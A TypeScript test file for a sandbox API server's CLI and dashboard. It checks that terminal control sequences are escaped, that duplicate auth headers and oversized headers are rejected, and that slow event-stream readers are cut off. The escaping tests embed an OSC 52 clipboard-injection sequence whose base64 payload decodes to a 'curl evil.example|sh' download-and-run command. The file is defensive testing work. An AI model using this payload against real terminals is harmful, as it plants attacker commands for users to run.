import { connect } from 'node:net'
import { render } from 'ink-testing-library'
import { createElement } from 'react'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { terminalSafe } from '../mocks/http/terminal-safe.ts'
import { DetailView } from '../ui/components/DetailView.tsx'
import { Table } from '../ui/components/Table.tsx'
import { formatChange, formatRequestLine } from '../ui/format.ts'
import { startCli } from './cli-process.ts'
import { rawCall, startTestServer, type TestServer } from './helpers.ts'

/** Issue 12: what reaches the terminal and the transport (M1, L6, L7, L8), one test per finding, named after it. */
let s: TestServer
beforeAll(async () => {
  s = await startTestServer()
})
afterAll(() => s.close())
beforeEach(() => s.sandbox.reset())

// What must never reach a terminal raw: C0 but \n and \t, DEL, C1.
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/
// eslint-disable-next-line no-control-regex
const SGR = /\u001b\[[0-9;]*m/g

/** One HTTP/1.1 request written by hand (duplicate headers, huge headers): the raw answer, until close. */
function rawRequest(port: number, head: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(head))
    let out = ''
    socket.on('data', (chunk: Buffer) => (out += chunk.toString('latin1')))
    socket.on('end', () => resolve(out))
    socket.on('error', reject)
  })
}

function parseRaw(raw: string) {
  const [head, body] = raw.split('\r\n\r\n')
  const status = Number(head!.split(' ')[1])
  return { status, head: head!, json: JSON.parse(body!) as unknown }
}

describe('M1: terminal escapes', () => {
  const OSC52 = 'x\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007'

  it('M1: control characters are written out visibly by one helper, in log lines and dashboard rows', () => {
    expect(terminalSafe(OSC52)).toBe('x\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07')
    // Lone C0, DEL and C1 (U+009B is CSI on 8-bit terminals), which stripVTControlCharacters leaves.
    expect(terminalSafe('a\u0000b\rc\u007fd\u009b31me\u202ef')).toBe('a\\x00b\\x0dc\\x7fd\\x9b31me\\u202ef')
    expect(terminalSafe('line\n\ttab')).toBe('line\n\ttab')
    expect(terminalSafe('line\n\ttab', { oneLine: true })).toBe('line\\n\\ttab')
    expect(terminalSafe('plain ünïcode ✓')).toBe('plain ünïcode ✓')
    // Idempotent: escaping twice shows the same text.
    expect(terminalSafe(terminalSafe(OSC52))).toBe(terminalSafe(OSC52))
    const change = formatChange({
      kind: 'oauth.app',
      tenant: 'acme',
      summary: `OAuth app "${OSC52}"\nforged line`,
      time: '2026-03-02T10:00:00.000Z',
    })
    expect(change).toBe(
      '10:00:00 acme     * OAuth app "x\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07"\\nforged line',
    )
    const line = formatRequestLine({
      id: 'r-1',
      time: '2026-03-02T10:00:00.000Z',
      tenant: 'acme',
      method: 'GET',
      path: '/api/v1/\u001b[2J',
      status: 404,
      authMethod: null,
      principal: '\u009d0;title\u0007',
      durationMs: 1,
      reason: null,
      scenarios: [],
    })
    expect(line).not.toMatch(RAW_CONTROL)
    expect(line).toContain('/api/v1/\\x1b[2J 404 1ms \\x9d0;title\\x07 r-1')
    // The dashboard: a table row and a detail view holding the same name draw it escaped.
    const row = { key: 'a', tenant: 'acme', cells: [{ text: OSC52 }] }
    const table = render(
      createElement(Table, {
        columns: [{ title: 'name', flex: 1 }],
        rows: [row],
        width: 80,
        height: 3,
        offset: 0,
        selected: -1,
        empty: '',
      }),
    )
    const detail = render(
      createElement(DetailView, {
        detail: { title: OSC52, value: OSC52, fields: [['name', OSC52]], usage: [OSC52] },
        width: 80,
        height: 10,
      }),
    )
    for (const frame of [table.lastFrame()!, detail.lastFrame()!]) {
      // Ink's own styling is SGR (`ESC [ ... m`); nothing else may start with ESC, and no BEL at all.
      expect(frame.replace(SGR, '')).not.toMatch(RAW_CONTROL)
      expect(frame).toContain('x\\x1b]52;c;')
    }
  })

  it('M1: the --no-ui log line of an OAuth app and a snapshot named with escapes stays inert', async () => {
    const cli = await startCli()
    const { port, seen } = cli
    try {
      const post = (path: string, body: unknown) =>
        rawCall(port, { method: 'POST', path, host: `127.0.0.1:${port}`, body })
      const app = await post('/__sandbox/oauth-apps', {
        tenant: 'acme',
        name: OSC52,
        redirectUris: ['http://localhost:3000/cb'],
      })
      expect(app.status).toBe(201)
      expect((await post('/__sandbox/snapshots', { name: '\u001b]0;title\u0007' })).status).toBe(201)
      await seen(/x\\x1b\]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07/)
      await seen(/"\\x1b\]0;title\\x07" taken/)
      // Nothing a request sent reaches the terminal raw: no ESC, BEL or C1 in the whole log.
      expect(cli.output()).not.toMatch(RAW_CONTROL)
    } finally {
      cli.stop()
    }
  }, 30_000)
})

describe('L6, L7: headers', () => {
  const request = (headers: string[]) =>
    rawRequest(
      s.port,
      ['GET /api/v1/me HTTP/1.1', ...headers, 'Connection: close', '', ''].join('\r\n'),
    ).then(parseRaw)

  it('L6: a duplicate Host, Authorization, Api-Token or X-Contact-Hash header is a 400 in the envelope', async () => {
    const host = `Host: acme.localhost:${s.port}`
    const admin = (await s.login('admin@acme.test')).token
    const member = (await s.login('member@acme.test')).token
    const { rw: token } = s.tokens('acme')
    const cases: Array<[string, string[]]> = [
      ['Host', [host, `Host: globex.localhost:${s.port}`, `Api-Token: ${token}`]],
      ['Authorization', [host, `Authorization: Bearer ${admin}`, `Authorization: Bearer ${member}`]],
      ['Api-Token', [host, `Api-Token: ${token}`, `Api-Token: ${token}`]],
      ['x-contact-hash', [host, 'X-Contact-Hash: a', 'x-contact-hash: b']],
    ]
    for (const [name, headers] of cases) {
      const res = await request(headers)
      expect({ status: res.status, json: res.json }).toEqual({
        status: 400,
        json: {
          title: 'Bad Request',
          detail: `The request carries the "${name}" header more than once: send it once.`,
          status: 400,
        },
      })
      expect(res.head).toMatch(/\r\nX-Request-Id: /i)
    }
    // One of each still works.
    expect((await request([host, `Authorization: Bearer ${admin}`])).status).toBe(200)
  })

  it('L7: a 20 KB request header is a 431, not a 400', async () => {
    const res = parseRaw(
      await rawRequest(
        s.port,
        `GET /api/v1/me HTTP/1.1\r\nHost: acme.localhost\r\nX-Big: ${'x'.repeat(20_000)}\r\n\r\n`,
      ),
    )
    expect(res.head).toMatch(/^HTTP\/1\.1 431 Request Header Fields Too Large\r\n/)
    expect(res.json).toEqual({
      title: 'Request Header Fields Too Large',
      detail: 'The request headers are larger than 16 KiB.',
      status: 431,
    })
    // Other unparseable HTTP keeps its 400, now with a body.
    expect(parseRaw(await rawRequest(s.port, 'NOT HTTP\r\n\r\n')).status).toBe(400)
  })
})

describe('L8: a slow SSE reader', () => {
  it('L8: a reader of /__sandbox/events that stops reading is disconnected past 1 MiB unread', async () => {
    const socket = connect(s.port, '127.0.0.1')
    await new Promise((resolve) => socket.once('connect', resolve))
    let received = 0
    let closed = false
    socket.on('data', (chunk: Buffer) => (received += chunk.length))
    socket.on('close', () => (closed = true))
    socket.write(`GET /__sandbox/events HTTP/1.1\r\nHost: 127.0.0.1:${s.port}\r\n\r\n`)
    await new Promise((resolve) => setTimeout(resolve, 100))
    socket.pause() // the reader stalls: nothing more is read from here on
    const summary = 'x'.repeat(100_000)
    const emitted = 300 // 30 MB: more than any loopback socket buffers hold
    for (let i = 0; i < emitted; i++) {
      s.sandbox.feed.emit({
        type: 'state',
        change: { kind: 'test', tenant: null, summary, time: new Date().toISOString() },
      })
      if (i % 20 === 0) await new Promise((resolve) => setImmediate(resolve))
    }
    await new Promise((resolve) => setTimeout(resolve, 200))
    socket.resume() // what was sent before the cut still arrives, then the stream ends
    for (let waited = 0; !closed && waited < 10_000; waited += 50)
      await new Promise((resolve) => setTimeout(resolve, 50))
    expect(closed).toBe(true)
    expect(received).toBeLessThan(emitted * summary.length)
    // The server keeps serving, and a new reader connects.
    expect((await s.call({ path: '/__sandbox/health' })).json).toEqual({ ok: true })
  }, 30_000)
})
